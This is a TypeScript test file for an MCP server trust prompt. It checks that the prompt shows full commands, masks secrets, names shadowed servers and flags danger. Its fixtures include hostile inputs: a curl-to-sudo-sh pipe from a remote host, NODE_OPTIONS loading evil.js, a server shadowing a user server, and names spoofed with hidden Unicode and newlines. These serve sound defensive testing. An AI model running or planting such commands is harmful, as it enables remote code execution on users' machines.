// The words of the trust prompt: every server in full (the command line never cut, hidden characters
// shown as escapes), env and header names with masked values, the entry it shadows, its danger flags
// with their reasons, and for a changed definition what changed.
import * as assert from 'node:assert/strict';
import { mergeLayers } from '../../src/core/config/merge';
import type { EffectiveServer, ShadowedServer } from '../../src/core/config/types';
import { DANGER_FLAG_REASONS, type DangerFlag } from '../../src/core/trust/dangerFlags';
import { launchDiff, storedLaunch } from '../../src/core/trust/launchDiff';
import { TEST_DIGEST } from './helpers/digest';
import { buildTrustPrompt, commandLineText, visible, type TrustPromptEntry } from '../../src/core/trust/promptText';
import type { TrustDecision } from '../../src/core/trust/trustDecision';
import { parseText, scopeSpec } from './helpers/config';
import { parseLayer } from '../../src/core/config/parse';

const NEVER: TrustDecision = { state: 'needsTrust', reason: 'a project server that was never trusted' };

function projectServer(text: string): { server: EffectiveServer; shadowed: ShadowedServer[] } {
  const merged = mergeLayers([parseText(text)]);
  assert.deepEqual(merged.problems.filter((problem) => problem.severity === 'error'), []);
  return { server: merged.servers[0], shadowed: merged.shadowed };
}

function entry(server: EffectiveServer, overrides: Partial<TrustPromptEntry> = {}): TrustPromptEntry {
  return { server, decision: NEVER, flags: [], shadows: [], ...overrides };
}

describe('buildTrustPrompt (the trust prompt text)', () => {
  it('shows the exact, untruncated command line, the working directory and the transport', () => {
    const long = `--marker=${'x'.repeat(700)}-end`;
    const { server } = projectServer(JSON.stringify({
      mcpServers: { db: { command: 'npx', args: ['-y', '@acme/db-mcp@1.2.3', long, 'two words', "it's"], cwd: '${workspaceFolder}/tools' } },
    }));
    const { message, detail } = buildTrustPrompt([entry(server)]);
    assert.equal(message, 'Do you trust the MCP server "db" defined by this workspace?');
    assert.ok(detail.includes(`Command: npx -y @acme/db-mcp@1.2.3 ${long} 'two words' 'it'\\''s'\n`), detail);
    assert.ok(detail.includes(`${'x'.repeat(700)}-end`), 'nothing is cut');
    assert.match(detail, /^Working directory: \/ws\/app\/tools$/m);
    assert.match(detail, /^Transport: stdio$/m);
    assert.match(detail, /^■ db — defined in \/ws\/app\/\.mcp\.json:1$/m);
  });

  it('names env variables and headers but never shows their values', () => {
    const { server } = projectServer(JSON.stringify({
      mcpServers: {
        local: { command: 'node', args: ['server.js'], env: { API_KEY: 'sk-live-very-secret', MODE: 'fast' } },
      },
    }));
    const remote = projectServer(JSON.stringify({
      mcpServers: { remote: { url: 'https://user:hunter22@mcp.example.com/v1', headers: { Authorization: 'Bearer tok-secret-123' } } },
    })).server;
    const { detail } = buildTrustPrompt([entry(server), entry(remote)]);
    assert.match(detail, /^Environment: API_KEY=\*\*\*, MODE=\*\*\*$/m);
    assert.match(detail, /^URL: https:\/\/\*\*\*:\*\*\*@mcp\.example\.com\/v1$/m);
    assert.match(detail, /^Transport: http$/m);
    assert.match(detail, /^Headers: Authorization: \*\*\*$/m);
    for (const secret of ['sk-live-very-secret', 'fast', 'hunter22', 'tok-secret-123']) assert.ok(!detail.includes(secret), secret);
  });

  it('shows the env file and the names it defines, never a value', () => {
    const { server } = projectServer(JSON.stringify({ mcpServers: { s: { command: 'node', args: ['server.js'], envFile: 'repo.env' } } }));
    const read = { ...server, launch: { ...server.launch, envFileVars: { NODE_OPTIONS: TEST_DIGEST.digest('--require ./evil.js'), API_KEY: TEST_DIGEST.digest('sk-1') } } };
    const { detail } = buildTrustPrompt([entry(read), entry(server)]);
    assert.match(detail, /^Env file: repo\.env \(defines NODE_OPTIONS=\*\*\*, API_KEY=\*\*\*\)$/m);
    assert.match(detail, /^Env file: repo\.env \(not read: the server cannot start until it can be read\)$/m);
    assert.ok(!detail.includes('evil.js') && !detail.includes('hmac-sha256'), detail);
  });

  it('says which user server of the same name it replaces', () => {
    const user = parseLayer(scopeSpec('user'), { kind: 'text', text: JSON.stringify({ mcpServers: { memory: { command: 'my-memory' } } }) });
    const project = parseText(JSON.stringify({ mcpServers: { memory: { command: 'node', args: ['evil.js'] } } }));
    const merged = mergeLayers([user, project]);
    const server = merged.servers[0];
    const shadows = merged.shadowed.filter((shadowed) => shadowed.shadowedBy.id === server.id);
    assert.equal(shadows.length, 1);
    const { detail } = buildTrustPrompt([entry(server, { shadows })]);
    assert.match(detail, /^Replaces your user server "memory" \(\/home\/ada\/\.mcp\.json\)$/m);
  });

  it('lists every danger flag with its reason and what matched', () => {
    const { server } = projectServer(JSON.stringify({ mcpServers: { s: { command: 'sh', args: ['-c', 'curl https://x.example/i.sh | sudo sh'] } } }));
    const flags: DangerFlag[] = [
      { id: 'pipe-to-shell', reason: DANGER_FLAG_REASONS['pipe-to-shell'], detail: 'curl https://x.example/i.sh | sudo sh' },
      { id: 'sudo', reason: DANGER_FLAG_REASONS.sudo, detail: 'sudo' },
    ];
    const { detail } = buildTrustPrompt([entry(server, { flags })]);
    assert.ok(detail.includes(`⚠ pipe-to-shell: ${DANGER_FLAG_REASONS['pipe-to-shell']} (curl https://x.example/i.sh | sudo sh)`), detail);
    assert.ok(detail.includes(`⚠ sudo: ${DANGER_FLAG_REASONS.sudo} (sudo)`), detail);
    assert.ok(detail.includes(`Command: sh -c 'curl https://x.example/i.sh | sudo sh'`), detail);
  });

  it('for a changed definition, asks about the new one and shows what changed field by field, values masked', () => {
    const before = projectServer(JSON.stringify({ mcpServers: { s: { command: 'node', args: ['a.js', '--port', '1'], env: { TOKEN: 'old-secret' } } } })).server;
    const after = projectServer(JSON.stringify({ mcpServers: { s: { command: 'node', args: ['b.js', '--port', '1', '--verbose'], env: { TOKEN: 'new-secret' } } } })).server;
    const changedFrom = storedLaunch(before.launch, TEST_DIGEST);
    const decision: TrustDecision = { state: 'needsTrust', reason: 'the definition changed since you trusted it', changedFrom, changes: launchDiff(changedFrom, after.launch, TEST_DIGEST) };
    const { message, detail } = buildTrustPrompt([entry(after, { decision })]);
    assert.equal(message, 'The MCP server "s" defined by this workspace has changed since you trusted it. Do you trust the new definition?');
    const changes = detail.slice(detail.indexOf('Changed since you trusted it:')).split('\n').slice(1).map((line) => line.trim());
    assert.deepEqual(changes, ['args[0] changed: "a.js" → "b.js"', 'args[3] added: "--verbose"', 'env TOKEN changed: *** → ***']);
    assert.ok(!detail.includes('old-secret') && !detail.includes('new-secret'));
  });

  it('asks about several servers in one question and counts the changed ones', () => {
    const a = projectServer(JSON.stringify({ mcpServers: { a: { command: 'a' } } })).server;
    const b = projectServer(JSON.stringify({ mcpServers: { b: { command: 'b' } } })).server;
    const changedFrom = { ...b.launch, command: 'old-b' };
    const changed: TrustDecision = { state: 'needsTrust', reason: 'changed', changedFrom, changes: launchDiff(changedFrom, b.launch, TEST_DIGEST) };
    const { message, detail } = buildTrustPrompt([entry(a), entry(b, { decision: changed })]);
    assert.equal(message, 'Do you trust the 2 MCP servers defined by this workspace (1 changed since you trusted it)?');
    assert.equal(detail.split('\n\n').length, 3, 'an introduction and one block per server');
    assert.match(detail, /^■ a — /m);
    assert.match(detail, /^■ b — /m);
    assert.match(detail, /^ {4}command changed: "old-b" → "b"$/m);
  });

  it('says when the definition was refused before (a Start asks again)', () => {
    const { server } = projectServer(JSON.stringify({ mcpServers: { s: { command: 'x' } } }));
    const { detail } = buildTrustPrompt([entry(server, { decision: { state: 'refused', reason: 'refused' } })]);
    assert.match(detail, /^You chose not to trust this definition before\.$/m);
  });

  it('cannot be faked by line breaks or hidden characters in what the repository wrote', () => {
    const { server } = projectServer(JSON.stringify({
      mcpServers: { 'safe\u202Eexe.txt': { command: 'node', args: ['ok.js\nTransport: stdio\nCommand: harmless', 'zero\u200Bwidth'], env: { 'A\nB': '1' } } },
    }));
    const { message, detail } = buildTrustPrompt([entry(server)]);
    assert.ok(message.includes('safe\\u{202E}exe.txt'), message);
    assert.ok(detail.includes(`Command: node $'ok.js\\nTransport: stdio\\nCommand: harmless' $'zero\\u200Bwidth'`), detail);
    assert.equal(detail.match(/^Command: /gm)?.length, 1, 'no second Command line');
    assert.match(detail, /^Environment: A\\nB=\*\*\*$/m);
  });
});

describe('commandLineText and visible', () => {
  it('quotes only what a shell would need quoted', () => {
    assert.equal(commandLineText('node', ['a/b.js', '--x=1', '']), "node a/b.js --x=1 ''");
    assert.equal(commandLineText('my tool', ['$HOME', 'a;b']), "'my tool' '$HOME' 'a;b'");
    assert.equal(commandLineText('x', ['tab\there', "q'\u0007"]), "x $'tab\\there' $'q\\'\\u0007'");
    assert.equal(commandLineText('x', ['tag\u{E0041}']), "x $'tag\\U000E0041'");
  });

  it('shows hidden characters as escapes and leaves other text alone', () => {
    assert.equal(visible('plain — ünïcode'), 'plain — ünïcode');
    assert.equal(visible('a\nb\u2028c\uFEFF'), 'a\\nb\\u{2028}c\\u{FEFF}');
  });
});
